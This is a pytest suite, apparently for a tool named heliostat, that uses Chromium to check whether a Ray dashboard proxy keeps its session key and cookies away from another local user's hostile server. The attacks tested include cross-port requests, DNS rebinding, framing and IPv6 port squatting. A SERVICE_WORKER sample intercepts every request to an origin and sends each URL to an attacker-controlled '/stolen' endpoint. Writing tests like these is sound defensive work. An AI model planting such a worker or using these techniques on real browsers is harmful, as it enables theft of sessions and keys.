"""The dashboard's proxy and a real browser, while another user of the host listens on other ports and wants in.

The victim's browser is Chromium. The other user's web server keeps every header that it gets, and replays it at once. Behind
the proxy a small server keeps what reached it; the last tests have a real Ray there."""

from __future__ import annotations

import contextlib
import os
import pwd
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from heliostat.common.errors import HeliostatError
from heliostat.remote.dashboard_proxy import DashboardProxy, redirect_page
from heliostat.remote.ray_client import RayApi
from real.browser import (
    ATTACKS,
    FRAME,
    LINK,
    PATIENCE_MS,
    TOKEN,
    Dashboard,
    Hostile,
    WebProxy,
    another_user,
    attack,
    hostile,
)
from shared import until

pytestmark = [
    pytest.mark.needs_chromium,
    pytest.mark.needs_two_users,
    pytest.mark.needs_ipv6,
    pytest.mark.needs_linux,
]
REFUSED = {
    "Open the URL that `heliostat dashboard` printed.\n",
    "This is not the address that `heliostat dashboard` printed.\n",
}


# --- the victim, the other user, the dashboard


@pytest.fixture(scope="module")
def chromium() -> Iterator[Callable[..., Any]]:
    """Starts Chromium with more options; all of them end with the module."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright, contextlib.ExitStack() as started:

        def launch(*options: str) -> Any:
            arguments = [*(["--no-sandbox"] if os.geteuid() == 0 else []), *options]
            browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=arguments)
            started.callback(browser.close)
            return browser

        yield launch


@pytest.fixture(scope="module")
def browser(chromium: Callable[..., Any]) -> Any:
    """Without Chromium's own check of who asks a local address: other browsers have none, and attacks must not end there."""
    return chromium(
        "--host-resolver-rules=MAP evil.test 127.0.0.1",
        "--disable-features=LocalNetworkAccessChecks,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
    )


@pytest.fixture
def context(browser: Any) -> Iterator[Any]:
    """A browser profile of its own."""
    made = browser.new_context()
    made.set_default_timeout(PATIENCE_MS)
    yield made
    made.close()


@pytest.fixture(scope="module")
def user() -> Iterator[pwd.struct_passwd]:
    with another_user() as made:
        yield made


@pytest.fixture
def dashboard() -> Iterator[Dashboard]:
    with Dashboard() as server:
        yield server
        server.shutdown()


@contextlib.contextmanager
def offered(dashboard: Dashboard, **options: Any) -> Iterator[DashboardProxy]:
    proxy = DashboardProxy(lambda: RayApi("127.0.0.1", dashboard.port, TOKEN), **options)
    proxy.start()
    try:
        yield proxy
    finally:
        proxy.close()


@dataclass
class Scene:
    """A victim with a session, and the other user's server."""

    context: Any
    page: Any
    proxy: DashboardProxy
    dashboard: Dashboard
    evil: Hostile

    @property
    def name(self) -> str:
        return urlsplit(self.proxy.url).hostname or ""

    @property
    def base(self) -> str:
        """Where the browser is after it came in: our path, without the key."""
        return self.proxy.url.partition("?")[0]

    def nothing_leaked(self) -> None:
        """No cookie and no path of ours; and with all that it got the other user did not reach the dashboard."""
        assert self.evil.requests, "the attack did not take place"
        assert self.evil.header("cookie") == []
        assert not [url for url in self.evil.header("referer") if str(self.proxy.port) in url]
        assert urlsplit(self.base).path.strip("/") not in repr(self.evil.requests)
        assert self.evil.got_in == []
        assert self.dashboard.hostile == set()


@pytest.fixture
def scene(context: Any, dashboard: Dashboard, user: pwd.struct_passwd, tmp_path: Path) -> Iterator[Scene]:
    with offered(dashboard) as proxy, hostile(user, tmp_path / "log", proxy.port) as evil:
        page = context.new_page()
        page.goto(proxy.url)
        assert page.title() == "Ray Dashboard"
        yield Scene(context, page, proxy, dashboard, evil)


# --- the victim gets in


def test_the_url_lets_the_browser_in(scene: Scene) -> None:
    """The page, its requests and its WebSockets work; a second tab and the URL again too; cookies of Ray's stay away."""
    page = scene.page
    assert page.url == scene.base
    ask = "async what => { const answer = await fetch(what.url, what); return [answer.status, await answer.text()] }"
    assert page.evaluate(ask, {"url": "api/version"}) == [200, '{"ray_version": "stub"}']
    assert page.evaluate(ask, {"url": "api/jobs/", "method": "POST", "body": "{}"})[0] == 200
    opened = "url => new Promise(end => { const s = new WebSocket(url); s.onopen = () => end(true); s.onerror = () => end(false) })"
    assert page.evaluate(opened, scene.base.replace("http:", "ws:") + "ws")
    for url in (scene.proxy.url, scene.base):
        other = scene.context.new_page()
        other.goto(url)
        assert (other.title(), other.url) == ("Ray Dashboard", scene.base)
    (cookie,) = scene.context.cookies()
    assert (cookie["domain"], cookie["path"]) == (scene.name, urlsplit(scene.base).path.rstrip("/"))
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert {seen.headers["authorization"] for seen in scene.dashboard.seen} == {f"Bearer {TOKEN}"}


def test_open_from_a_file(context: Any, dashboard: Dashboard, tmp_path: Path) -> None:
    """As `--open` does it: a page on disk leads there. The browser holds the cookie back at first."""
    with offered(dashboard) as proxy:
        file = tmp_path / "dashboard.html"
        file.write_text(redirect_page(proxy.url))
        page = context.new_page()
        page.goto(file.as_uri())
        page.wait_for_url(proxy.url.partition("?")[0])
        page.wait_for_function("document.title == 'Ray Dashboard'")


def test_the_key_works_once(scene: Scene, browser: Any) -> None:
    other = browser.new_context()
    page = other.new_page()
    page.goto(scene.proxy.url)
    assert "This URL was used already" in page.inner_text("body")
    assert other.cookies() == []
    page.goto(scene.base)
    assert page.inner_text("body") in REFUSED
    other.close()


# --- the victim follows a link to the other user's port


WAYS = ("link", "typed", "popup", "frame", "fetch", "post")


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "evil.test"])
def test_the_session_does_not_go_to_another_port(scene: Scene, host: str) -> None:
    """From the dashboard's own page, or typed, in a browser with a session."""
    for how in WAYS:
        visit(scene, f"http://{host}:{scene.evil.port}/", how)
    scene.nothing_leaked()
    # so much does get out, and is among what was replayed: hence the random path
    assert f"http://{scene.name}:{scene.proxy.port}" in scene.evil.header("origin")


@pytest.mark.parametrize("name", ["{name}", "x.{name}", "{name}."])
def test_nor_to_another_port_of_the_same_name(scene: Scene, name: str) -> None:
    """The other user knows the random host name, say from an `Origin` header, but not the path."""
    for how in WAYS:
        for path in ("", "x/y/z"):
            visit(scene, f"http://{name.format(name=scene.name)}:{scene.evil.port}/{path}", how)
    scene.nothing_leaked()


def visit(scene: Scene, url: str, how: str) -> None:
    """Brings the victim's browser to a URL; once more from there, since a browser then calls it the same site."""
    page = scene.context.new_page()
    page.goto(scene.base)
    if how == "popup":
        with scene.context.expect_page() as opened:
            page.evaluate("url => void window.open(url)", url)
        opened.value.wait_for_load_state()
        opened.value.close()
    elif how == "frame":
        page.evaluate(FRAME, url)
    elif how in ("fetch", "post"):
        method = "POST" if how == "post" else "GET"
        page.evaluate("([url, method]) => fetch(url, {method, credentials: 'include'})", [url, method])
    else:
        if how == "typed":
            page.goto(url)
        else:
            with page.expect_navigation():
                page.evaluate(LINK, url)
        page.reload()
        with page.expect_navigation():
            page.evaluate(LINK, url + "?again")
    page.close()


def test_a_page_that_the_dashboard_opened_cannot_send_it_elsewhere(scene: Scene) -> None:
    with scene.context.expect_page() as opened:
        scene.page.evaluate("url => void window.open(url)", f"http://127.0.0.1:{scene.evil.port}/")
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None


def test_the_same_path_of_another_port_gets_the_session(scene: Scene) -> None:
    """A limit that docs/security.md describes: a browser sends a cookie to every port of its host name. The other user has to know
    the whole address in the victim's address bar."""
    visit(scene, f"http://{scene.name}:{scene.evil.port}{urlsplit(scene.base).path}", "link")
    assert scene.evil.got_in


# --- a hostile page sends the victim's browser to the dashboard


def test_the_attacks_reach_a_dashboard_without_a_proxy(scene: Scene) -> None:
    """That the attacks below are real: a server that refuses nobody gets each of them."""
    attack(scene.context, f"http://127.0.0.1:{scene.evil.port}/", f"http://127.0.0.1:{scene.dashboard.port}/")
    assert scene.dashboard.hostile == set(ATTACKS)


@pytest.mark.parametrize("target", ["127.0.0.1", "localhost", "[::1]"])
@pytest.mark.parametrize("origin", ["127.0.0.1", "localhost", "evil.test"])
def test_a_hostile_page(scene: Scene, origin: str, target: str) -> None:
    """It knows the port, as every user of the host can, and no more."""
    refused(scene, f"http://{origin}:{scene.evil.port}/", f"http://{target}:{scene.proxy.port}/")


@pytest.mark.parametrize("origin", ["127.0.0.1", "localhost", "evil.test", "{name}", "x.{name}"])
def test_a_hostile_page_that_knows_the_name(scene: Scene, origin: str) -> None:
    host = origin.format(name=scene.name)
    refused(scene, f"http://{host}:{scene.evil.port}/", f"http://{scene.name}:{scene.proxy.port}/")


@pytest.mark.parametrize("origin", ["127.0.0.1", "localhost", "evil.test", "{name}", "x.{name}"])
def test_a_hostile_page_that_knows_the_whole_address(scene: Scene, origin: str) -> None:
    """The path too: from the name's own other ports the browser sends the cookie along."""
    refused(scene, f"http://{origin.format(name=scene.name)}:{scene.evil.port}/", scene.base)


def refused(scene: Scene, origin: str, base: str) -> None:
    before = len(scene.dashboard.seen)
    tried = attack(scene.context, origin, base)
    assert tried.read == []
    assert set(tried.shown.values()) <= REFUSED
    assert scene.dashboard.seen[before:] == []
    scene.nothing_leaked()
    # and the session was not harmed
    scene.page.reload()
    assert scene.page.title() == "Ray Dashboard"


def test_a_hostile_page_cannot_frame_it(scene: Scene) -> None:
    """With the whole address known, from a page of the same site, which gets the cookie sent."""
    page = scene.context.new_page()
    page.goto(f"http://{scene.name}:{scene.evil.port}/")
    page.evaluate(FRAME, scene.base)
    assert "Ray Dashboard" not in [frame.title() for frame in page.frames]
    assert page.frames[-1].url.startswith("chrome-error:")


def test_a_rebound_name(scene: Scene) -> None:
    """A page of http://evil.test:PORT, whose name now points at the proxy: for the browser it is the same origin."""
    origin = f"http://evil.test:{scene.proxy.port}"
    before = len(scene.dashboard.seen)
    scene.context.route(
        f"{origin}/page", lambda route: route.fulfill(body="<body>hostile", content_type="text/html")
    )
    page = scene.context.new_page()
    page.goto(f"{origin}/page")
    paths = ["/", "/api/version", urlsplit(scene.base).path, urlsplit(scene.base).path + "api/version"]
    ask = "async path => { const a = await fetch(path, {credentials: 'include'}); return [a.status, (await a.text()).trim()] }"
    for path in [*paths, "/?" + urlsplit(scene.proxy.url).query]:
        status, text = page.evaluate(ask, path)
        assert (status, text) == (403, "This is not the address that `heliostat dashboard` printed.")
    tried = attack(scene.context, f"{origin}/page", f"{origin}/")
    assert {words.split(" ", 2)[1] for words in tried.read} <= {"403"}
    assert set(tried.shown.values()) <= REFUSED
    assert scene.dashboard.seen[before:] == []
    assert [cookie["domain"] for cookie in scene.context.cookies()] == [scene.name]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "evil.test", "x.localhost"])
def test_the_key_works_under_its_own_name_only(context: Any, dashboard: Dashboard, host: str) -> None:
    with offered(dashboard) as proxy:
        page = context.new_page()
        page.goto(proxy.url.replace(urlsplit(proxy.url).hostname or "", host))
        assert page.inner_text("body") in REFUSED
        assert context.cookies() == []
        page.goto(proxy.url)  # it is not used up
        assert page.title() == "Ray Dashboard"


# --- another user had, has or wants the port

SERVICE_WORKER = """
addEventListener('install', () => skipWaiting())
addEventListener('activate', event => event.waitUntil(clients.claim()))
addEventListener('fetch', event => event.respondWith(
    fetch('http://127.0.0.1:%d/stolen?url=' + encodeURIComponent(event.request.url), {mode: 'no-cors'}).then(() => new Response('<title>hostile'))))
"""
PLANT = """async () => {
    await navigator.serviceWorker.register('/worker.js', {scope: '/'})
    await navigator.serviceWorker.ready
}"""


def test_a_service_worker_that_was_left_at_the_port(
    context: Any, dashboard: Dashboard, user: pwd.struct_passwd, tmp_path: Path
) -> None:
    """Who had the port before can leave a program in the victim's browser that sees all requests to that origin."""
    with free_port() as port, hostile(user, tmp_path / "log", port) as evil:
        pages = {"/worker.js": ("text/javascript", SERVICE_WORKER % evil.port)}
        page = context.new_page()
        with hostile(user, tmp_path / "before", port=port, pages=pages):
            for host in ("127.0.0.1", "localhost"):
                page.goto(f"http://{host}:{port}/")
                page.evaluate(PLANT)
        with offered(dashboard, port=port) as proxy:
            page.goto(f"http://127.0.0.1:{port}/")
            assert "/stolen?url=" in evil.requests[-1]["path"], "it is not there"
            page.goto(proxy.url)
            assert evil.got_in == []
            assert not [request for request in evil.requests if "key" in request["path"]]
            assert page.title() == "Ray Dashboard"


@contextlib.contextmanager
def free_port() -> Iterator[int]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
    yield port


def test_another_user_on_the_ipv6_half_of_the_port(
    browser: Any, dashboard: Dashboard, user: pwd.struct_passwd, tmp_path: Path
) -> None:
    """Chromium tries ::1 first, so whoever listens there would get the key. The proxy does not start then."""
    program = (
        "import json, os, socket, sys\n"
        "os.setgroups([]); os.setgid(int(sys.argv[2])); os.setuid(int(sys.argv[1]))\n"
        "with socket.create_server(('::1', int(sys.argv[3])), family=socket.AF_INET6) as listener:\n"
        "    print(listener.getsockname()[1], flush=True)\n"
        "    while True:\n"
        "        client = listener.accept()[0]\n"
        "        print(client.recv(65536).partition(b'\\r\\n')[0].decode(), flush=True)\n"
        "        client.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "        client.close()\n"
    )
    words = [sys.executable, "-c", program, str(user.pw_uid), str(user.pw_gid)]
    with subprocess.Popen([*words, "0"], stdout=subprocess.PIPE, text=True) as other:
        try:
            assert other.stdout
            port = int(other.stdout.readline())
            page = browser.new_page()
            page.goto(f"http://x.localhost:{port}/?key=secret")
            assert other.stdout.readline() == "GET /?key=secret HTTP/1.1\n", "the danger is real"
            page.close()
            proxy = DashboardProxy(lambda: RayApi("127.0.0.1", dashboard.port, TOKEN), port)
            with pytest.raises(HeliostatError, match=str(port)):
                proxy.start()
            proxy.close()
            with pytest.raises(ConnectionRefusedError):
                socket.create_connection(("127.0.0.1", port), timeout=60)
        finally:
            other.kill()
    with offered(dashboard) as proxy:  # and the other way round
        late = subprocess.run([*words, str(proxy.port)], capture_output=True, text=True, timeout=60)
        assert late.returncode == 1 and "Address already in use" in late.stderr


IN_A_NAMESPACE = """
import os, socket, sys
from pathlib import Path
from heliostat.common.errors import HeliostatError
from heliostat.remote.ray_client import RayApi
from heliostat.remote.dashboard_proxy import DashboardProxy
uid, ipv6 = int(sys.argv[1]), sys.argv[2] == "ipv6"
Path("/proc/sys/net/ipv4/ip_local_port_range").write_text("40000 40003")
if not ipv6:
    Path("/proc/sys/net/ipv6/conf/lo/disable_ipv6").write_text("1")
os.seteuid(uid)
taken = [socket.create_server(("::1", port), family=socket.AF_INET6) for port in (40000, 40001, 40002) if ipv6]
os.seteuid(0)
first, second = (DashboardProxy(lambda: RayApi("127.0.0.1", 1, "token")) for _ in range(2))
first.start()
print(first.port)
try:
    second.start()
    print(second.port)
except HeliostatError as error:
    print(error.cause)
Path("/proc/sys/net/ipv4/ip_local_port_range").write_text("40000 40100")  # for the clients
for address in ("127.0.0.1", "::1"):
    try:
        with socket.create_connection((address, first.port)) as client:
            client.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
            print(address, client.recv(65536).split(b"\\r\\n")[0].decode())
    except OSError as error:
        print(address, error.strerror)
first.close()
second.close()
"""


@pytest.mark.parametrize("ipv6", ["ipv6", "no-ipv6"])
def test_a_free_port_is_one_that_nobody_has_half_of(user: pwd.struct_passwd, ipv6: str) -> None:
    """In a network of four ports, of which another user has three on ::1; and in one without ::1."""
    inside = 'ip link set lo up && exec "$@"'
    words = ["unshare", "--net", "sh", "-c", inside, "sh", sys.executable, "-c", IN_A_NAMESPACE]
    done = subprocess.run([*words, str(user.pw_uid), ipv6], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    first, second, *answers = done.stdout.splitlines()
    if ipv6 == "ipv6":
        assert first == "40003" and second.startswith("Address already in use")
        assert answers == ["127.0.0.1 HTTP/1.1 403 Forbidden", "::1 HTTP/1.1 403 Forbidden"]
    else:
        assert {first, second} < {"40000", "40001", "40002", "40003"}
        assert answers == ["127.0.0.1 HTTP/1.1 403 Forbidden", "::1 Cannot assign requested address"]


# --- through ssh, and behind a web proxy


@pytest.mark.needs_sshd
def test_through_ssh(chromium: Callable[..., Any], dashboard: Dashboard, tmp_path: Path) -> None:
    """`ssh -L PORT:localhost:PORT` from a laptop, and the URL as it was printed. 127.0.0.5 is the laptop's loopback here."""
    with sshd(tmp_path) as ssh, offered(dashboard) as proxy:
        laptop = chromium("--host-resolver-rules=MAP *.localhost 127.0.0.5").new_page()
        words = [*ssh, "-N", "-L", f"127.0.0.5:{proxy.port}:localhost:{proxy.port}", "127.0.0.1"]
        with subprocess.Popen(words, stdin=subprocess.DEVNULL) as tunnel:
            try:
                until(lambda: reached("127.0.0.5", proxy.port), "the forwarded port")
                laptop.goto(proxy.url)
                assert laptop.title() == "Ray Dashboard"
                assert laptop.evaluate("async () => (await fetch('api/version')).status") == 200
            finally:
                tunnel.kill()


@contextlib.contextmanager
def sshd(folder: Path) -> Iterator[list[str]]:
    """A server of our own on loopback; gives the words of a client that may log in."""
    for name in ("host", "id"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / name)], check=True)
    Path("/run/sshd").mkdir(exist_ok=True)  # stays: other servers of this host use it
    with free_port() as port:
        settings = {
            "HostKey": folder / "host", "AuthorizedKeysFile": folder / "id.pub", "StrictModes": "no", "UsePAM": "no",
            "PidFile": "none", "PermitRootLogin": "yes", "ListenAddress": f"127.0.0.1:{port}",
        }  # fmt: skip
        options = [word for key, value in settings.items() for word in ("-o", f"{key}={value}")]
        words = ["/usr/sbin/sshd", "-D", "-f", "/dev/null", *options]
        with subprocess.Popen(words, stderr=subprocess.DEVNULL) as server:
            try:
                until(lambda: reached("127.0.0.1", port), "sshd")
                known = (
                    "-o",
                    "StrictHostKeyChecking=no",
                    "-o",
                    "UserKnownHostsFile=/dev/null",
                    "-o",
                    "LogLevel=ERROR",
                )
                yield ["ssh", "-F", "/dev/null", "-p", str(port), "-i", str(folder / "id"), *known]
            finally:
                server.kill()


def reached(address: str, port: int) -> bool:
    with contextlib.suppress(OSError):
        socket.create_connection((address, port), timeout=60).close()
        return True
    return False


def test_behind_a_web_proxy(chromium: Callable[..., Any], dashboard: Dashboard) -> None:
    """`--proxied`: a platform with a name and a path of its own, several browsers with one link, a frame in its page."""
    browser = chromium("--host-resolver-rules=MAP platform.test 127.0.0.1")
    with offered(dashboard, proxied=True) as proxy, WebProxy(proxy.port) as platform:
        base = f"http://platform.test:{platform.port}/me/session/"
        for _ in range(2):
            page = browser.new_context().new_page()
            page.goto(base)
            assert page.inner_text("body") in REFUSED
            page.goto(base + "?" + urlsplit(proxy.url).query)
            assert (page.title(), page.url) == ("Ray Dashboard", base)
            assert page.evaluate("async () => (await fetch('api/version')).status") == 200
            (cookie,) = page.context.cookies()
            assert (cookie["domain"], cookie["path"]) == ("platform.test", "/me/session")
            page.goto(f"http://platform.test:{platform.port}/")
            page.evaluate(FRAME, base)
            assert [frame.title() for frame in page.frames] == ["platform", "Ray Dashboard"]
        platform.shutdown()


# --- a real Ray

VIEWS = {
    "overview": "Cluster utilization", "jobs": "Job List", "cluster": "127.0.0.2 (Head)", "actors": "Actor ID",
    "metrics": "Prometheus", "logs": "Select a node",
}  # fmt: skip


@pytest.mark.needs_ray
def test_a_real_dashboard(
    context: Any,
    cli: Callable[..., Any],
    spawn_cli: Callable[..., Any],
    user: pwd.struct_passwd,
    tmp_path: Path,
) -> None:
    """Every view of Ray's dashboard works below our path, and the other user gets nothing of it."""
    done = cli("up", "--name", "ray", "--cpus-per-node", "1", "--object-store", "100M")
    assert done.rc == 0, done.err
    try:
        url = spawn_cli("dashboard", "ray").stdout.readline().strip()
        name, port, base = urlsplit(url).hostname, urlsplit(url).port, url.partition("?")[0]
        page = context.new_page()
        answers: list[tuple[int, str]] = []
        page.on("response", lambda answer: answers.append((answer.status, answer.url)))
        page.goto(url)
        for view, text in VIEWS.items():
            page.goto(f"{base}#/{view}")
            page.get_by_text(text).first.wait_for()
        assert [
            answer for answer in answers if answer[0] in (401, 403) or not answer[1].startswith(base)
        ] == []
        # Ray answers this with a cookie that holds the cluster's token
        assert page.evaluate("async () => (await fetch('api/authenticate', {method: 'POST'})).status") == 200
        assert [cookie["name"] for cookie in context.cookies()] == [f"heliostat-session-{port}"]
        with hostile(user, tmp_path / "log", port or 0) as evil:
            for host in ("127.0.0.1", "localhost", name):
                page.goto(f"http://{host}:{evil.port}/")
                page.reload()
            assert len(evil.requests) >= 6
            assert evil.header("cookie") == [] and evil.got_in == []
    finally:
        done = cli("down", "ray")
        assert done.rc == 0, done.err
